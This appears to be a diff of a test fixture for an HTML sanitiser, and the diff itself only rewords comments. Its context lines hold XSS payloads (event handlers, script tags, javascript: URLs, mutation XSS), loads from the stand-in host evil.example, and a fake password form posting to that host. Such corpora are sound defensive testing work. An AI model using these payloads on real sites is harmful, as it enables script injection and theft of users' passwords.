@@ -1,6 +1,6 @@
 /**
- * Bodies that try to run, to load from elsewhere or to pass for a part of the portal. Each would set `window.ran` or ask
- * `evil.example` for something, were it shown as it is.
+ * HTML that tries to run script, to load from another host or to imitate the portal. Shown unsanitised, each would set
+ * `window.ran` or call `evil.example`.
  */
 const RUN = 'window.ran=1';
 const EVIL = 'https://evil.example';
@@ -32,7 +32,7 @@ const EVENTS = [
   ],
 ];
 
-/** Handlers, however they are written. */
+/** Event handlers in many spellings. */
 const handlers = ELEMENTS.flatMap((element, index) =>
   EVENTS.filter((_, place) => (place + index) % 2 === 0).map(
     (event) => `<${element} src=x tabindex=0 autofocus open ${event}="${RUN}">text</${element}>`,
@@ -53,7 +53,7 @@ const brokenHandlers = [
   `<p lang="&quot; onmouseover=&quot;${RUN}">text</p>`,
 ];
 
-/** Scripts and what reads like one. */
+/** Scripts and similar elements. */
 const scripts = [
   `<script>${RUN}</script>`,
   `<SCRIPT>${RUN}</SCRIPT>`,
@@ -83,7 +83,7 @@ const scripts = [
   `</script><script>${RUN}</script>`,
 ];
 
-/** Addresses that run. */
+/** Addresses that run script. */
 const SCHEMES = [
   `javascript:${RUN}`,
   `JaVaScRiPt:${RUN}`,
@@ -127,7 +127,7 @@ const addresses = SCHEMES.flatMap((address, index) =>
   HOLDERS.filter((_, place) => place === 0 || (place + index) % 2 === 0).map((hold) => hold(address)),
 );
 
-/** What loads without being asked. */
+/** Elements that load on their own. */
 const loads = [
   ...['img', 'video', 'audio', 'iframe', 'embed', 'source', 'track', 'input type=image'].map(
     (tag) => `<${tag} src="${EVIL}/x">`,
@@ -165,7 +165,7 @@ const loads = [
   `<html manifest="${EVIL}/x"><p>text</p></html>`,
 ];
 
-/** What is harmless to one parser and not to the next. */
+/** HTML that parsers read differently (mutation XSS). */
 const mutations = [
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
   `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
@@ -205,7 +205,7 @@ const mutations = [
   `<math>${'<mrow>'.repeat(200)}<mtext><img src=x onerror=${RUN}>`,
 ];
 
-/** What would pass for the portal, or take its names over. */
+/** Elements that imitate the portal or overwrite its names. */
 const disguises = [
   `<form action="${EVIL}"><label>Password <input type=password name=password></label><button>Log on</button></form>`,
   `<input form=x name=password type=password>`,
@@ -239,7 +239,7 @@ const disguises = [
   `<td onclick=${RUN}>text</td>`,
 ];
 
-/** At least three hundred, no two the same. */
+/** At least 300 distinct bodies. */
 export const HOSTILE_HTML: readonly string[] = [
   ...new Set([
     ...handlers,
